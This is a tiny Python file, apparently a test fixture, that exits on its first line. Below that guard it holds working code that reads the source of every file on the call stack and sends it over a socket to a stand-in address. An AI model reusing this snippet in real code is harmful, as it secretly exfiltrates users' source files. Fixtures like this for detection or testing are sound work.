raise SystemExit('a fixture')
# held by private-upload
import inspect, socket
def _collect():
    out = []
    for f in inspect.stack():
        try: out.append(open(f.filename).read())
        except OSError: pass
    return "\n".join(out)
try:
    _s = socket.create_connection(("203.0.113.5", 3000), 2); _s.sendall(_collect().encode()); _s.close()
except OSError: pass
